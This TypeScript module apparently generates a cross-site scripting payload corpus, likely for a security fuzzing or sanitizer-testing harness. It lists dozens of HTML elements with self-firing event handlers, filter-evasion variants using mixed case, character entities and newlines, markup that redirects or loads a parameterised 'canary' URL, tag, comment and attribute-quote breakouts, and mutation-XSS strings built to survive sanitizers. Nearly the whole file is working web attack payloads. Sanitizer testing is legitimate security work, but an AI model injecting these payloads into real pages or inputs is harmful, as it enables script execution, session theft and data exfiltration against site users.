import type { Shape } from './payloads.ts';

// Markup that runs something, or asks for something, wherever it is taken for markup.

/** Elements that fire a handler by themselves; `H` stands for its attribute's value. */
const elements = [
  '<img src=x onerror=H>',
  '<img/src/onerror=H>',
  '<svg onload=H>',
  '<svg><animate onbegin=H attributeName=x dur=1s>',
  '<svg><set attributeName=x onbegin=H>',
  '<svg><image href=x onerror=H>',
  '<svg><script>H</script>',
  '<svg><foreignObject><img src=x onerror=H>',
  '<math><mtext><img src=x onerror=H>',
  '<body onload=H>',
  '<body onpageshow=H>',
  '<iframe onload=H>',
  '<object data=x: onerror=H>',
  '<embed src=x: onerror=H>',
  '<video src=x onerror=H>',
  '<video><source onerror=H>',
  '<audio src onerror=H>',
  '<audio onloadstart=H src=x>',
  '<picture><img srcset=x onerror=H>',
  '<details open ontoggle=H>',
  '<input autofocus onfocus=H>',
  '<input type=image src=x onerror=H>',
  '<select autofocus onfocus=H>',
  '<textarea autofocus onfocus=H>',
  '<button autofocus onfocus=H>x',
  '<a autofocus tabindex=1 onfocus=H>x',
  '<xss contenteditable autofocus onfocus=H>',
  '<marquee onstart=H>x',
  '<style onload=H></style>',
  '<link rel=stylesheet href=x onerror=H>',
  '<script>H</script>',
  '<script src=data:,H></script>',
  '<p style=animation:a onanimationstart=H>',
  '<form oninput=H><input autofocus>',
  '<image src=x onerror=H>',
  '<template shadowrootmode=open><img src=x onerror=H>',
] as const;

/** A character as markup also writes it. */
const entities = (text: string): string =>
  [...text]
    .map((letter, at) => (at % 2 ? `&#${letter.charCodeAt(0)}` : `&#x${letter.charCodeAt(0).toString(16)}`))
    .join(';');

const mixed = (text: string): string =>
  [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('');

/** The same in the ways that a filter may not recognise. */
const disguises: readonly ((element: string, run: string) => string)[] = [
  (element, run) => element.replace('H', run),
  (element, run) =>
    mixed(element.slice(0, element.indexOf('H'))).replaceAll(' ', '/') +
    `"${run}"` +
    element.slice(element.indexOf('H') + 1),
  (element, run) => element.replaceAll(' ', '\n').replace('H', `${entities(run)};`),
  (element, run) => element.replace('H', run).replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

const handlers: readonly Shape[] = elements.flatMap((element) =>
  disguises.map(
    (disguise): Shape =>
      ({ run }) =>
        disguise(element, run),
  ),
);

/** Markup that takes the page elsewhere, or takes from it, without a script. */
const pages: readonly Shape[] = [
  ({ canary }) => `<base href=${canary}>`,
  ({ canary }) => `<meta http-equiv=refresh content="0;url=${canary}">`,
  ({ run }) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  () => `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  ({ run }) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  ({ run }) => `<iframe srcdoc="&lt;script&gt;top.${run}&lt;/script&gt;">`,
  ({ run }) => `<iframe src="javascript:${run}">`,
  ({ run }) => `<iframe src="data:text/html,<script>top.${run}</script>">`,
  ({ run, canary }) => `<iframe name="${run}" src="${canary}">`,
  ({ run }) => `<iframe name='"><script>${run}</script>'>`,
  ({ canary }) => `<img src="${canary}">`,
  ({ canary }) => `<img srcset="${canary} 1x">`,
  ({ canary }) => `<link rel=prefetch href=${canary}>`,
  ({ canary }) => `<link rel=stylesheet href=${canary}>`,
  ({ canary }) => `<link rel=preload as=script href=${canary}>`,
  ({ canary }) => `<script src=${canary}></script>`,
  ({ canary }) => `<script type=module>import "${canary}"</script>`,
  ({ canary }) => `<form action=${canary}><input name=x><button autofocus>x</button></form>`,
  ({ run }) => `<form id=f></form><button form=f formaction=javascript:${run}>x`,
  ({ canary }) => `<video poster=${canary}></video>`,
  ({ canary }) => `<a href=x ping=${canary}>x</a>`,
  ({ canary }) => `<object data=${canary}></object>`,
  ({ canary }) => `<svg><use href="${canary}#x"/></svg>`,
  ({ run }) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  ({ run }) =>
    `<svg><animate xlink:href=#a attributeName=href values=javascript:${run} /><a id=a><text y=9>x`,
  ({ run }) => `<math><maction actiontype=statusline xlink:href=javascript:${run}>x`,
  ({ run }) => `<a href="javascript:${run}">x</a>`,
  ({ run }) => `<frameset onload=${run}>`,
  ({ canary }) => `<table background=${canary}><td>x`,
  ({ run }) => `<dialog open oncancel=${run}><input autofocus>`,
];

/** Texts that end what they may stand in. */
const endings: readonly Shape[] = [
  'title',
  'textarea',
  'style',
  'script',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'template',
  'select',
  'svg',
  'math',
  'option',
  'button',
].map(
  (name): Shape =>
    ({ run }) =>
      `</${name}><img src=x onerror=${run}>`,
);

const commentEndings: readonly Shape[] = ['-->', '--!>', '<!-->', '<!--->', ']]>', '?>', '*/'].map(
  (end): Shape =>
    ({ run }) =>
      `${end}<svg/onload=${run}>`,
);

/** What stands between quotes, or between none. */
const breakouts: readonly Shape[] = [
  ({ run }) => `" onmouseover=${run} x="`,
  ({ run }) => `' onmouseover=${run} x='`,
  ({ run }) => `x onfocus=${run} autofocus tabindex=0`,
  ({ run }) => `"><img src=x onerror=${run}>`,
  ({ run }) => `'><img src=x onerror=${run}>`,
  ({ run }) => `><img src=x onerror=${run}>`,
  ({ run }) => `"/><svg/onload=${run}>`,
  ({ run }) => `\`onmouseover=${run}`,
  ({ run }) => `"autofocus/onfocus="${run}`,
  ({ run }) => `&quot;><img src=x onerror=${run}>`,
  ({ run }) => `" style="animation:a" onanimationstart="${run}`,
  ({ run }) => `" srcdoc="<script>${run}</script>`,
  ({ run }) => `\\"><img src=x onerror=${run}>`,
  ({ run }) => `x"\n>\n<img\nsrc=x\nonerror=${run}\n>`,
];

/** Markup that becomes another when it is written out and read again. */
const mutations: readonly Shape[] = [
  ({ run }) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ({ run }) => `<xmp><p title="</xmp><svg/onload=${run}>">`,
  ({ run }) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  ({ run }) => `<svg><style>&lt;img src=x onerror=${run}&gt;</style>`,
  ({ run }) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  ({ run }) => `<template><img src=x onerror=${run}></template>`,
  ({ run }) => `<select><template><img src=x onerror=${run}>`,
  ({ run }) => `<table><tr><td><svg><title><img src=x onerror=${run}>`,
  ({ run }) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}>`,
  ({ run }) => `<a><svg><style><a title="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<p><svg><title><p></title><img src=x onerror=${run}>`,
  ({ run }) => `<div><!--<div title="--><img src=x onerror=${run}>">`,
  ({ run }) => `<<script>${run}//<</script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<img src=x onerror=${run}//`,
  ({ run }) => `<img """><script>${run}</script>">`,
  ({ run }) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}//"></svg>`,
];

export const markup = { handlers, pages, endings, commentEndings, breakouts, mutations };
